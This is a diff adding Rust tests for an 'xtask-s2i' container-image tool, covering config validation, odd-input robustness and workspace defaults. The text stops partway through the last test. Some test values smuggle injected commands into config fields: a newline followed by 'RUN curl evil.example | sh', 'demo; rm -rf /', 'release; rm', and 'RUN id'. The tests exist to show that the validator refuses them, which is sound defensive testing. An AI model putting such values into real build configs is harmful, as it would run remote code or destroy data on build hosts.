@@ -1,0 +1,975 @@
+//! Configuration tests: a table of bad `[package.metadata.s2i]` configurations, each run through
+//! the real command (`ImageArgs::execute` on a small temporary workspace) and required to fail with
+//! an error that names the key, the file and the line, without writing a single file; odd inputs
+//! that must not panic; workspace defaults; and package selection with `-p`.
+//!
+//! The helpers here ([`Ws`], [`package`]) are shared with the rendering tests.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use xtask_s2i::ImageArgs;
+use xtask_s2i::config::{KEYS, OKD_KEYS};
+use xtask_s2i::sink::Buffer;
+
+/// A throwaway Cargo workspace in a temporary directory.
+pub struct Ws {
+    dir: tempfile::TempDir,
+    root: PathBuf,
+}
+
+impl Ws {
+    /// A workspace made of `files` (relative path → contents); `src/main.rs` is added when the
+    /// files do not contain it.
+    pub fn new(files: &[(&str, &str)]) -> Ws {
+        let dir = tempfile::Builder::new()
+            .prefix("xtask-s2i-it-")
+            .tempdir()
+            .expect("create a temporary directory");
+        // The path cargo reports (and so the path in messages) is the canonical one.
+        let root = dir.path().canonicalize().expect("canonicalize the tempdir");
+        let ws = Ws { dir, root };
+        for (rel, text) in files {
+            ws.write(rel, text);
+        }
+        if !files.iter().any(|(rel, _)| *rel == "src/main.rs") && files.len() == 1 {
+            ws.write("src/main.rs", "fn main() {}\n");
+        }
+        ws
+    }
+
+    /// A single-package workspace whose `[package.metadata.s2i]` body is `s2i`.
+    pub fn package(s2i: &str) -> Ws {
+        Ws::new(&[("Cargo.toml", &package("demo", s2i))])
+    }
+
+    pub fn root(&self) -> &Path {
+        &self.root
+    }
+
+    pub fn manifest(&self) -> PathBuf {
+        self.root.join("Cargo.toml")
+    }
+
+    pub fn write(&self, rel: &str, text: &str) {
+        let path = self.root.join(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+
+    pub fn read(&self, rel: &str) -> String {
+        let path = self.root.join(rel);
+        std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("read `{}`: {e}", path.display()))
+    }
+
+    /// `cargo xtask image --no-build --manifest-path <ws>/Cargo.toml` plus what `f` changes.
+    pub fn args(&self, f: impl FnOnce(&mut ImageArgs)) -> ImageArgs {
+        let mut args = ImageArgs {
+            manifest_path: Some(self.manifest()),
+            no_build: true,
+            ..ImageArgs::default()
+        };
+        f(&mut args);
+        args
+    }
+
+    /// Runs `--no-build` with the default flags.
+    pub fn run(&self) -> anyhow::Result<xtask_s2i::Summary> {
+        self.args(|_| {}).execute(&Buffer::new())
+    }
+
+    /// Runs `--no-build` and returns the error's full text (`{:#}`), failing if it succeeds.
+    pub fn fail(&self, args: ImageArgs) -> String {
+        match args.execute(&Buffer::new()) {
+            Ok(_) => panic!(
+                "expected an error for\n{}",
+                std::fs::read_to_string(self.manifest()).unwrap_or_default()
+            ),
+            Err(e) => format!("{e:#}"),
+        }
+    }
+
+    /// Every file and directory under the workspace with its size (the temp dir itself excluded).
+    pub fn listing(&self) -> BTreeMap<PathBuf, u64> {
+        let mut out = BTreeMap::new();
+        walk(&self.root, &self.root, &mut out);
+        out
+    }
+
+    #[allow(dead_code)]
+    pub fn keep(self) -> PathBuf {
+        self.dir.keep()
+    }
+}
+
+fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<PathBuf, u64>) {
+    let Ok(entries) = std::fs::read_dir(dir) else {
+        return;
+    };
+    for entry in entries.flatten() {
+        let path = entry.path();
+        let meta = entry.metadata().unwrap();
+        out.insert(path.strip_prefix(root).unwrap().to_path_buf(), meta.len());
+        if meta.is_dir() {
+            walk(root, &path, out);
+        }
+    }
+}
+
+/// The manifest of a package `name` (its own workspace) with `s2i` as `[package.metadata.s2i]`.
+pub fn package(name: &str, s2i: &str) -> String {
+    format!(
+        "[package]\nname = \"{name}\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n\n[package.metadata.s2i]\n{s2i}\n"
+    )
+}
+
+/// One bad configuration and what its error must say.
+struct Case {
+    name: &'static str,
+    /// The files of the workspace; a lone `Cargo.toml` gets a `src/main.rs`.
+    files: Vec<(&'static str, String)>,
+    /// The dotted key the message names.
+    key: &'static str,
+    /// The file the message names, relative to the workspace.
+    file: &'static str,
+    /// A text whose (first) line the message points at, or `None` when no line applies.
+    line_of: Option<&'static str>,
+    /// More texts the message must contain (the reason, the note).
+    says: &'static [&'static str],
+    /// `--builder-base`.
+    builder_base: Option<&'static str>,
+}
+
+fn case(name: &'static str, s2i: &str, key: &'static str) -> Case {
+    Case {
+        name,
+        files: vec![("Cargo.toml", package("demo", s2i))],
+        key,
+        file: "Cargo.toml",
+        line_of: None,
+        says: &[],
+        builder_base: None,
+    }
+}
+
+impl Case {
+    fn at(mut self, text: &'static str) -> Case {
+        self.line_of = Some(text);
+        self
+    }
+    fn says(mut self, says: &'static [&'static str]) -> Case {
+        self.says = says;
+        self
+    }
+    fn files(mut self, files: Vec<(&'static str, String)>) -> Case {
+        self.files = files;
+        self
+    }
+    fn in_file(mut self, file: &'static str) -> Case {
+        self.file = file;
+        self
+    }
+    fn builder_base(mut self, b: &'static str) -> Case {
+        self.builder_base = Some(b);
+        self
+    }
+}
+
+fn bad_configurations() -> Vec<Case> {
+    vec![
+        case("unknown key", r#"colour = "red""#, "package.metadata.s2i.colour")
+            .at("colour")
+            .says(&["unknown key `colour`", "the keys of `[package.metadata.s2i]` are"]),
+        case("typo'd key", "prot = 8080", "package.metadata.s2i.prot")
+            .at("prot")
+            .says(&["did you mean `port`?"]),
+        case(
+            "snake_case key",
+            r#"builder_base = "rust:1""#,
+            "package.metadata.s2i.builder_base",
+        )
+        .at("builder_base")
+        .says(&["did you mean `builder-base`?"]),
+        case(
+            "unknown key in okd",
+            "[package.metadata.s2i.okd]\nnamspace = \"demo\"",
+            "package.metadata.s2i.okd.namspace",
+        )
+        .at("namspace")
+        .says(&["did you mean `namespace`?", "[package.metadata.s2i.okd]"]),
+        case(
+            "unknown key in user",
+            "user = { buildr = 2000 }",
+            "package.metadata.s2i.user.buildr",
+        )
+        .at("user")
+        .says(&["did you mean `builder`?"]),
+        case(
+            "unknown key in okd.build-resources",
+            "okd = { build-resources = { limit = { cpu = \"1\" } } }",
+            "package.metadata.s2i.okd.build-resources.limit",
+        )
+        .at("okd")
+        .says(&["did you mean `limits`?"]),
+        case("port as a string", r#"port = "8080""#, "package.metadata.s2i.port")
+            .at("port")
+            .says(&["wrong type: expected an integer, found the string `\"8080\"`", "port = 8080"]),
+        case("port as a float", "port = 8080.0", "package.metadata.s2i.port")
+            .at("port")
+            .says(&["expected an integer, found the number `8080.0`"]),
+        case("port as nan", "port = nan", "package.metadata.s2i.port")
+            .at("port")
+            .says(&["`nan` or `inf`"]),
+        case("port as a date", "port = 1979-05-27", "package.metadata.s2i.port")
+            .at("port")
+            .says(&["found a date-time"]),
+        case("okd as an array", "okd = []", "package.metadata.s2i.okd")
+            .at("okd")
+            .says(&["expected a table, found an array"]),
+        case("vendor as a string", r#"vendor = "yes""#, "package.metadata.s2i.vendor")
+            .at("vendor")
+            .says(&["expected a boolean, found the string `\"yes\"`"]),
+        case("features not an array", r#"features = "tls""#, "package.metadata.s2i.features")
+            .at("features")
+            .says(&["expected an array of strings, found the string"]),
+        case("env not a table", r#"env = "RUST_LOG=info""#, "package.metadata.s2i.env")
+            .at("env")
+            .says(&["expected a table of strings, found the string"]),
+        case("labels value not a string", "labels = { team = 5 }", "package.metadata.s2i.labels.team")
+            .at("labels")
+            .says(&["expected a string, found the number `5`"]),
+        case(
+            "pull-policy not a choice",
+            r#"pull-policy = "sometimes""#,
+            "package.metadata.s2i.pull-policy",
+        )
+        .at("pull-policy")
+        .says(&["if-not-present", "always", "never"]),
+        case("tls not a choice", "okd = { tls = \"mtls\" }", "package.metadata.s2i.okd.tls")
+            .at("okd")
+            .says(&["edge", "passthrough"]),
+        case("s2i not a table", "", "package.metadata.s2i")
+            .files(vec![(
+                "Cargo.toml",
+                "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n\n[package.metadata]\ns2i = 5\n".into(),
+            )])
+            .at("s2i = 5")
+            .says(&["expected a table"]),
+        case("uppercase image name", r#"runtime-image = "Hello""#, "package.metadata.s2i.runtime-image")
+            .at("runtime-image")
+            .says(&["`Hello`", "lowercase"]),
+        case("image name with a space", r#"builder-image = "my builder""#, "package.metadata.s2i.builder-image")
+            .at("builder-image")
+            .says(&["' '"]),
+        case("builder-base with an empty tag", r#"builder-base = "rust:""#, "package.metadata.s2i.builder-base")
+            .at("builder-base")
+            .says(&["tag is empty"]),
+        case("image name with a trailing slash", r#"app-image = "quay.io/acme/""#, "package.metadata.s2i.app-image")
+            .at("app-image")
+            .says(&["trailing `/`"]),
+        case(
+            "builder-base with a newline",
+            r#"builder-base = "rust:1\nRUN curl evil.example | sh""#,
+            "package.metadata.s2i.builder-base",
+        )
+        .at("builder-base")
+        .says(&["'\\n'"]),
+        case("tag starting with a dash", r#"tag = "-rc1""#, "package.metadata.s2i.tag")
+            .at("tag")
+            .says(&["must start with"]),
+        case("tag with a space", r#"tag = "1.0 beta""#, "package.metadata.s2i.tag")
+            .at("tag")
+            .says(&["' '"]),
+        case("tag too long", &format!("tag = \"{}\"", "a".repeat(129)), "package.metadata.s2i.tag")
+            .at("tag")
+            .says(&["longer than 128"]),
+        case("root user", "user = 0", "package.metadata.s2i.user")
+            .at("user")
+            .says(&["0 is root", "OKD"]),
+        case("named user", r#"user = "app""#, "package.metadata.s2i.user")
+            .at("user")
+            .says(&["`app` is a name", "numeric"]),
+        case("root runtime user", "user = { runtime = 0 }", "package.metadata.s2i.user.runtime")
+            .at("user")
+            .says(&["0 is root"]),
+        case("negative user", "user = -5", "package.metadata.s2i.user")
+            .at("user")
+            .says(&["not a valid UID"]),
+        case("negative port", "port = -1", "package.metadata.s2i.port")
+            .at("port")
+            .says(&["-1 is not a TCP port", "1 to 65535"]),
+        case("port 0", "port = 0", "package.metadata.s2i.port")
+            .at("port")
+            .says(&["0 is not a TCP port"]),
+        case("port 70000", "port = 70000", "package.metadata.s2i.port")
+            .at("port")
+            .says(&["70000 is not a TCP port"]),
+        case("missing bin", r#"bin = "server""#, "package.metadata.s2i.bin")
+            .at("bin")
+            .says(&["no binary target `server`", "`demo`"]),
+        case("ambiguous bin", "", "package.metadata.s2i.bin")
+            .files(vec![
+                (
+                    "Cargo.toml",
+                    "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n\n[[bin]]\nname = \"api\"\npath = \"src/api.rs\"\n\n[[bin]]\nname = \"worker\"\npath = \"src/worker.rs\"\n\n[package.metadata.s2i]\nport = 8080\n".into(),
+                ),
+                ("src/api.rs", "fn main() {}\n".into()),
+                ("src/worker.rs", "fn main() {}\n".into()),
+            ])
+            .at("[package.metadata.s2i]")
+            .says(&["several binary targets", "`api`", "`worker`", "bin = \"api\""]),
+        case("no binary at all", "", "package.metadata.s2i.bin")
+            .files(vec![
+                ("Cargo.toml", package("demo", "port = 8080")),
+                ("src/lib.rs", "//! lib\n".into()),
+            ])
+            .says(&["no binary target", "src/main.rs"]),
+        case("bin with shell characters", r#"bin = "demo; rm -rf /""#, "package.metadata.s2i.bin")
+            .at("bin")
+            .says(&["';'"]),
+        case(
+            "env value with a newline and RUN",
+            r#"env = { RUST_LOG = "info\nRUN curl evil.example | sh" }"#,
+            "package.metadata.s2i.env.RUST_LOG",
+        )
+        .at("env")
+        .says(&["control character '\\n'", "one line"]),
+        case("env name with a dash", r#"env = { "RUST-LOG" = "info" }"#, "package.metadata.s2i.env.RUST-LOG")
+            .at("env")
+            .says(&["not a valid environment variable name"]),
+        case(
+            "env name with a newline",
+            "env = { \"A\\nRUN x\" = \"1\" }",
+            r#"package.metadata.s2i.env."A\nRUN x""#,
+        )
+        .at("env")
+        .says(&["not a valid environment variable name"]),
+        case("env name starting with a digit", r#"env = { 1A = "x" }"#, "package.metadata.s2i.env.1A")
+            .at("env")
+            .says(&["not a valid environment variable name"]),
+        case(
+            "label key with a space",
+            r#"labels = { "team name" = "web" }"#,
+            r#"package.metadata.s2i.labels."team name""#,
+        )
+        .at("labels")
+        .says(&["not a valid label key"]),
+        case(
+            "label key with a quote",
+            r#"labels = { 'a"=x' = "web" }"#,
+            r#"package.metadata.s2i.labels."a\"=x""#,
+        )
+        .at("labels")
+        .says(&["not a valid label key"]),
+        case(
+            "label value with a newline",
+            "[package.metadata.s2i.labels]\n\"com.example.team\" = \"\"\"\nweb\nEXPOSE 22\"\"\"",
+            r#"package.metadata.s2i.labels."com.example.team""#,
+        )
+        .at("com.example.team")
+        .says(&["control character"]),
+        case("package name not DNS-1123", "port = 8080", "package.metadata.s2i.runtime-image")
+            .files(vec![("Cargo.toml", package("Hello_World", "port = 8080"))])
+            .at("[package.metadata.s2i]")
+            .says(&["`Hello_World`", "package name"]),
+        case(
+            "image whose last component is too long for Kubernetes",
+            &format!("runtime-image = \"quay.io/acme/{}\"", "a".repeat(64)),
+            "package.metadata.s2i.runtime-image",
+        )
+        .at("runtime-image")
+        .says(&["ImageStream", "63 characters"]),
+        case(
+            "image names that clash",
+            r#"app-image = "quay.io/acme/demo""#,
+            "package.metadata.s2i",
+        )
+        .says(&["must end in different names"]),
+        case("bad namespace", r#"okd = { namespace = "My_NS" }"#, "package.metadata.s2i.okd.namespace")
+            .at("okd")
+            .says(&["DNS-1123"]),
+        case("git-uri without scheme", r#"okd = { git-uri = "github.com/acme/x" }"#, "package.metadata.s2i.okd.git-uri")
+            .at("okd")
+            .says(&["https://"]),
+        case("git-uri with a newline", "okd = { git-uri = \"https://x/y\\nz\" }", "package.metadata.s2i.okd.git-uri")
+            .at("okd")
+            .says(&["control"]),
+        case("bad git-ref", r#"okd = { git-ref = "main..dev" }"#, "package.metadata.s2i.okd.git-ref")
+            .at("okd")
+            .says(&["not a valid git ref"]),
+        case(
+            "package.repository not a git URL",
+            "port = 8080",
+            "package.repository",
+        )
+        .files(vec![(
+            "Cargo.toml",
+            package("demo", "port = 8080").replace(
+                "edition = \"2021\"\n",
+                "edition = \"2021\"\nrepository = \"not a url\"\n",
+            ),
+        )])
+        .at("repository")
+        .says(&["okd.git-uri"]),
+        case("absolute manifests-dir", r#"okd = { manifests-dir = "/etc/okd" }"#, "package.metadata.s2i.okd.manifests-dir")
+            .at("okd")
+            .says(&["is absolute"]),
+        case("manifests-dir leaving the repository", r#"okd = { manifests-dir = "deploy/../../x" }"#, "package.metadata.s2i.okd.manifests-dir")
+            .at("okd")
+            .says(&["`..`"]),
+        case("manifests-dir at the root", r#"okd = { manifests-dir = "./" }"#, "package.metadata.s2i.okd.manifests-dir")
+            .at("okd")
+            .says(&["directory of their own"]),
+        case("context-dir leaving the repository", r#"okd = { context-dir = "../x" }"#, "package.metadata.s2i.okd.context-dir")
+            .at("okd")
+            .says(&["`..`"]),
+        case("unknown webhook kind", r#"okd = { webhooks = ["gitea"] }"#, "package.metadata.s2i.okd.webhooks")
+            .at("okd")
+            .says(&["unknown webhook kind `gitea`", "`github`"]),
+        case("bad webhook secret", r#"okd = { webhooks = { github = "My Secret" } }"#, "package.metadata.s2i.okd.webhooks.github")
+            .at("okd")
+            .says(&["DNS-1123"]),
+        case(
+            "bad resource quantity",
+            "[package.metadata.s2i.okd.build-resources.limits]\nmemory = \"4 GB\"",
+            "package.metadata.s2i.okd.build-resources.limits.memory",
+        )
+        .at("memory")
+        .says(&["not a Kubernetes quantity"]),
+        case(
+            "unknown resource",
+            "[package.metadata.s2i.okd.build-resources.limits]\ngpu = \"1\"",
+            "package.metadata.s2i.okd.build-resources.limits.gpu",
+        )
+        .at("gpu")
+        .says(&["unknown resource `gpu`", "`cpu`"]),
+        case("replicas negative", "okd = { replicas = -1 }", "package.metadata.s2i.okd.replicas")
+            .at("okd")
+            .says(&["`-1` is out of range"]),
+        case("empty tag", r#"tag = """#, "package.metadata.s2i.tag")
+            .at("tag")
+            .says(&["empty"]),
+        case("empty bin", r#"bin = """#, "package.metadata.s2i.bin")
+            .at("bin")
+            .says(&["empty"]),
+        case("empty builder-base", r#"builder-base = """#, "package.metadata.s2i.builder-base")
+            .at("builder-base")
+            .says(&["empty"]),
+        case("empty runtime-image", r#"runtime-image = """#, "package.metadata.s2i.runtime-image")
+            .at("runtime-image")
+            .says(&["empty"]),
+        case("empty profile", r#"profile = """#, "package.metadata.s2i.profile")
+            .at("profile")
+            .says(&["empty"]),
+        case("empty namespace", r#"okd = { namespace = "" }"#, "package.metadata.s2i.okd.namespace")
+            .at("okd")
+            .says(&["empty"]),
+        case("empty feature", r#"features = [""]"#, "package.metadata.s2i.features.0")
+            .at("features")
+            .says(&["empty"]),
+        case("empty env name", r#"env = { "" = "x" }"#, r#"package.metadata.s2i.env."""#)
+            .at("env")
+            .says(&["name is empty"]),
+        case("unknown feature", r#"features = ["tls"]"#, "package.metadata.s2i.features.0")
+            .at("features")
+            .says(&["no feature `tls`", "declares no features"]),
+        case("profile with a space", r#"profile = "release; rm""#, "package.metadata.s2i.profile")
+            .at("profile")
+            .says(&["';'"]),
+        case("workspace defaults with a wrong type", "", "workspace.metadata.s2i.port")
+            .files(vec![
+                (
+                    "Cargo.toml",
+                    "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n\n[workspace.metadata.s2i]\nport = \"http\"\n".into(),
+                ),
+                (
+                    "app/Cargo.toml",
+                    "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[package.metadata.s2i]\n".into(),
+                ),
+                ("app/src/main.rs", "fn main() {}\n".into()),
+            ])
+            .at("port")
+            .says(&["wrong type"]),
+        case("workspace defaults with an unknown key", "", "workspace.metadata.s2i.okd.git-url")
+            .files(vec![
+                (
+                    "Cargo.toml",
+                    "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n\n[workspace.metadata.s2i.okd]\ngit-url = \"https://x/y.git\"\n".into(),
+                ),
+                (
+                    "app/Cargo.toml",
+                    "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[package.metadata.s2i]\n".into(),
+                ),
+                ("app/src/main.rs", "fn main() {}\n".into()),
+            ])
+            .at("git-url")
+            .says(&["did you mean `git-uri`?", "[workspace.metadata.s2i.okd]"]),
+        case("workspace default invalid for the package", "", "workspace.metadata.s2i.user")
+            .files(vec![
+                (
+                    "Cargo.toml",
+                    "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n\n[workspace.metadata.s2i]\nuser = 0\n".into(),
+                ),
+                (
+                    "app/Cargo.toml",
+                    "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[package.metadata.s2i]\nport = 8080\n".into(),
+                ),
+                ("app/src/main.rs", "fn main() {}\n".into()),
+            ])
+            .at("user")
+            .says(&["0 is root"]),
+        case("package error in a member names the member's file", "", "package.metadata.s2i.port")
+            .files(vec![
+                (
+                    "Cargo.toml",
+                    "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n\n[workspace.metadata.s2i]\nport = 8080\n".into(),
+                ),
+                (
+                    "app/Cargo.toml",
+                    "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[package.metadata.s2i]\nport = 0\n".into(),
+                ),
+                ("app/src/main.rs", "fn main() {}\n".into()),
+            ])
+            .in_file("app/Cargo.toml")
+            .at("port")
+            .says(&["0 is not a TCP port"]),
+        case("--builder-base not an image", "port = 8080", "builder-base")
+            .builder_base("Not An Image")
+            .says(&["XTASK_S2I_BUILDER_BASE", "--builder-base", "docker.io/library/rust:1-slim"]),
+        case("--builder-base with a newline", "port = 8080", "builder-base")
+            .builder_base("rust\nRUN id")
+            .says(&["XTASK_S2I_BUILDER_BASE", "'\\n'"]),
+    ]
+}
+
+/// The 1-based line of the first occurrence of `needle` in `text`.
+fn line_of(text: &str, needle: &str) -> usize {
+    let at = text
+        .find(needle)
+        .unwrap_or_else(|| panic!("{needle:?} is not in\n{text}"));
+    text[..at].matches('\n').count() + 1
+}
+
+#[test]
+fn bad_configurations_are_refused_with_a_teaching_error_and_write_nothing() {
+    let cases = bad_configurations();
+    assert!(cases.len() >= 25, "only {} cases", cases.len());
+    let mut failures = Vec::new();
+    for case in cases {
+        let files: Vec<(&str, &str)> = case.files.iter().map(|(p, t)| (*p, t.as_str())).collect();
+        let ws = Ws::new(&files);
+        let before = ws.listing();
+        let args = ws.args(|a| a.builder_base = case.builder_base.map(String::from));
+        let result = args.execute(&Buffer::new());
+        let after = ws.listing();
+        let msg = match result {
+            Ok(_) => {
+                failures.push(format!("{}: no error", case.name));
+                continue;
+            }
+            Err(e) => format!("{e:#}"),
+        };
+        eprintln!("--- {}\n{msg}", case.name);
+        let mut problems = Vec::new();
+        if before != after {
+            problems.push(format!(
+                "files were written: {:?}",
+                after
+                    .keys()
+                    .filter(|k| !before.contains_key(*k))
+                    .collect::<Vec<_>>()
+            ));
+        }
+        if !msg.contains(&format!("`{}", case.key)) {
+            problems.push(format!("does not name the key `{}`", case.key));
+        }
+        let file = ws.root().join(case.file);
+        let line = case
+            .line_of
+            .map(|needle| line_of(&ws.read(case.file), needle));
+        let place = match (case.builder_base, line) {
+            (Some(_), _) => String::new(),
+            (None, Some(line)) => format!("{}:{line}`", file.display()),
+            (None, None) => format!("{}", file.display()),
+        };
+        if !msg.contains(&place) {
+            problems.push(format!("does not name `{place}`"));
+        }
+        for s in case.says {
+            if !msg.contains(s) {
+                problems.push(format!("does not say {s:?}"));
+            }
+        }
+        if !msg.contains("\nnote: ") {
+            problems.push("has no `note:` that teaches".into());
+        }
+        if msg.starts_with(|c: char| c.is_uppercase()) {
+            problems.push("does not start lowercase".into());
+        }
+        if !problems.is_empty() {
+            failures.push(format!(
+                "{}:\n  {}\n  message: {}",
+                case.name,
+                problems.join("\n  "),
+                msg.replace('\n', "\n           ")
+            ));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} bad configurations are not reported well:\n\n{}",
+        failures.len(),
+        failures.join("\n\n")
+    );
+}
+
+/// Odd inputs: whatever they give, they must not panic, and an error must write nothing.
+#[test]
+fn odd_inputs_do_not_panic() {
+    let deep = format!(
+        "okd = {}{}",
+        "{ build-resources = { limits = { cpu = ".to_string() + &"{ a = ".repeat(40),
+        "1".to_string() + &" }".repeat(43)
+    );
+    let bodies = [
+        deep,
+        format!("env = {{ {} }}", "A = { B = { C = \"x\" } }"),
+        "port = 9223372036854775807".into(),
+        "user = 9223372036854775807".into(),
+        "user = { builder = -9223372036854775808 }".into(),
+        "port = 8080.0".into(),
+        "port = nan".into(),
+        "port = inf".into(),
+        "port = 1979-05-27T07:32:00Z".into(),
+        "\"порт\" = 8080".into(),
+        "\"🚀\" = { \"🚀\" = \"🚀\" }".into(),
+        "env = { \"ПЕРЕМЕННАЯ\" = \"значение\" }".into(),
+        "labels = { \"a\" = \"\u{202e}evil\u{0000}\" }".into(),
+        format!("tag = \"{}\"", "é".repeat(200)),
+        format!("runtime-image = \"{}\"", "a/".repeat(300) + "a"),
+        format!("builder-base = \"{}\"", "a:".repeat(100)),
+        "builder-base = \"rust@sha256:\"".into(),
+        "builder-base = \"localhost:99999999/rust\"".into(),
+        "builder-base = \":\"".into(),
+        "builder-base = \"@\"".into(),
+        "features = [[], {}, 1]".into(),
+        "okd = []".into(),
+        "okd = { webhooks = 5 }".into(),
+        "okd = { webhooks = [\"\"] }".into(),
+        "okd = { webhooks = { \"\" = \"\" } }".into(),
+        "okd = { build-resources = { limits = { cpu = \"\" } } }".into(),
+        "okd = { build-resources = { limits = { cpu = \".\" } } }".into(),
+        "okd = { build-resources = [] }".into(),
+        "user = {}".into(),
+        "user = []".into(),
+        "user = true".into(),
+        "[[package.metadata.s2i.env]]\nA = \"x\"".into(),
+        "okd.context-dir = \"\"".into(),
+        "okd.manifests-dir = \"\"".into(),
+        "okd.git-ref = \"-x\"".into(),
+        "okd.git-uri = \"\"".into(),
+        "bin = \"demo\\u0000\"".into(),
+    ];
+    for body in bodies {
+        let ws = Ws::package(&body);
+        let before = ws.listing();
+        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| ws.run()));
+        match result {
+            Err(_) => panic!("panicked on:\n{body}"),
+            Ok(Ok(_)) => eprintln!("--- {body}\naccepted"),
+            Ok(Err(e)) => {
+                let msg = format!("{e:#}");
+                eprintln!("--- {body}\n{msg}");
+                assert!(
+                    msg.contains(&ws.manifest().display().to_string()),
+                    "the error for {body:?} does not name the manifest: {msg}"
+                );
+                assert_eq!(before, ws.listing(), "files were written for {body:?}");
+            }
+        }
+    }
+}
+
+#[test]
+fn an_empty_table_is_a_valid_configuration_with_every_default() {
+    let ws = Ws::package("");
+    let summary = ws
+        .run()
+        .expect("an empty `[package.metadata.s2i]` is valid");
+    let c = &summary.plans[0].config;
+    assert_eq!(c.builder_base, xtask_s2i::config::DEFAULT_BUILDER_BASE);
+    assert_eq!(
+        (c.builder_image.as_str(), c.app_image.as_str()),
+        ("demo-builder", "demo-app")
+    );
+    assert_eq!(c.runtime_image, "demo");
+    assert_eq!(c.tag, "0.1.0");
+    assert_eq!(c.bin, "demo");
+    assert_eq!(c.profile, "release");
+    assert!(c.vendor);
+    assert_eq!((c.builder_user, c.runtime_user), (1001, 65532));
+    assert_eq!(c.port, None);
+    assert_eq!(c.okd.manifests_dir, "deploy/okd");
+    assert!(
+        ws.root()
+            .join("target/s2i/demo/builder/Dockerfile")
+            .is_file()
+    );
+}
+
+#[test]
+fn the_builder_base_flag_wins_over_the_configuration() {
+    let ws = Ws::package(r#"builder-base = "docker.io/library/rust:1-slim""#);
+    let summary = ws
+        .args(|a| a.builder_base = Some("localhost/xtask-s2i/rust:trixie".into()))
+        .execute(&Buffer::new())
+        .unwrap();
+    assert_eq!(summary.plans[0].base, "localhost/xtask-s2i/rust:trixie");
+}
+
+/// `--builder-base` is also read from `XTASK_S2I_BUILDER_BASE` (clap's `env`); checked on the
+/// argument itself so no test has to change the process environment.
+#[test]
+fn the_builder_base_flag_reads_the_environment() {
+    use xtask_s2i::clap::{Args, Command};
+    let cmd = ImageArgs::augment_args(Command::new("image"));
+    let arg = cmd
+        .get_arguments()
+        .find(|a| a.get_long() == Some("builder-base"))
+        .expect("`--builder-base` exists");
+    assert_eq!(
+        arg.get_env().and_then(|e| e.to_str()),
+        Some(xtask_s2i::config::BUILDER_BASE_ENV)
+    );
+}
+
+const WS_DEFAULTS: &str = r#"[workspace]
+members = ["api", "worker"]
+resolver = "2"
+
+[workspace.metadata.s2i]
+builder-base = "localhost/xtask-s2i/rust:trixie"
+tag = "edge"
+pull-policy = "never"
+features = ["fast"]
+no-default-features = true
+profile = "dist"
+vendor = false
+user = { builder = 2000, runtime = 3000 }
+env = { RUST_LOG = "info", TZ = "UTC" }
+labels = { "com.example.team" = "platform" }
+port = 8080
+# Per-package keys: not inherited.
+bin = "nope"
+runtime-image = "shared"
+builder-image = "shared-builder"
+app-image = "shared-app"
+
+[workspace.metadata.s2i.okd]
+namespace = "shop"
+git-uri = "https://example.com/acme/shop.git"
+git-ref = "main"
+manifests-dir = "deploy/cluster"
+context-dir = "not/inherited"
+webhooks = ["generic"]
+replicas = 2
+tls = "reencrypt"
+build-resources = { limits = { memory = "2Gi" } }
+
+[profile.dist]
+inherits = "release"
+"#;
+
+fn member(name: &str, s2i: &str) -> String {
+    format!(
+        "[package]\nname = \"{name}\"\nversion = \"1.2.3\"\nedition = \"2021\"\n\n[features]\nfast = []\n\n[package.metadata.s2i]\n{s2i}\n"
+    )
+}
+
+fn shop() -> Ws {
+    Ws::new(&[
+        ("Cargo.toml", WS_DEFAULTS),
+        (
+            "api/Cargo.toml",
+            &member(
+                "api",
+                "port = 9090\nuser = { runtime = 4000 }\nenv = { TZ = \"Europe/Paris\", API = \"1\" }\nlabels = { \"com.example.tier\" = \"front\" }\n\n[package.metadata.s2i.okd]\nnamespace = \"api\"\nreplicas = 3",
+            ),
+        ),
+        ("api/src/main.rs", "fn main() {}\n"),
+        ("worker/Cargo.toml", &member("worker", "")),
+        ("worker/src/main.rs", "fn main() {}\n"),
+    ])
+}
+
+#[test]
+fn workspace_defaults_merge_key_by_key_and_the_package_wins() {
+    let ws = shop();
+    let summary = ws.run().expect("the shop workspace is valid");
+    let by_name: BTreeMap<&str, &xtask_s2i::Config> = summary
+        .plans
+        .iter()
+        .map(|p| (p.package(), &p.config))
+        .collect();
+    assert_eq!(
+        by_name.keys().copied().collect::<Vec<_>>(),
+        ["api", "worker"]
+    );
+
+    let api = by_name["api"];
+    // Inherited scalars.
+    assert_eq!(api.builder_base, "localhost/xtask-s2i/rust:trixie");
+    assert_eq!(api.tag, "edge");
+    assert_eq!(api.pull_policy, xtask_s2i::config::PullPolicy::Never);
+    assert_eq!(api.features, ["fast"]);
+    assert!(api.no_default_features);
+    assert_eq!(api.profile, "dist");
+    assert!(!api.vendor);
+    // The package wins; tables merge key by key.
+    assert_eq!(api.port, Some(9090));
+    assert_eq!((api.builder_user, api.runtime_user), (2000, 4000));
+    assert_eq!(
+        api.env,
+        BTreeMap::from([
+            ("API".to_string(), "1".to_string()),
+            ("RUST_LOG".into(), "info".into()),
+            ("TZ".into(), "Europe/Paris".into()),
+        ])
+    );
+    assert_eq!(
+        api.labels,
+        BTreeMap::from([
+            ("com.example.team".to_string(), "platform".to_string()),
+            ("com.example.tier".into(), "front".into()),
+        ])
+    );
+    assert_eq!(api.okd.namespace.as_deref(), Some("api"));
+    assert_eq!(api.okd.replicas, 3);
+    assert_eq!(
+        api.okd.git_uri.as_deref(),
+        Some("https://example.com/acme/shop.git")
+    );
+    assert_eq!(api.okd.git_ref.as_deref(), Some("main"));
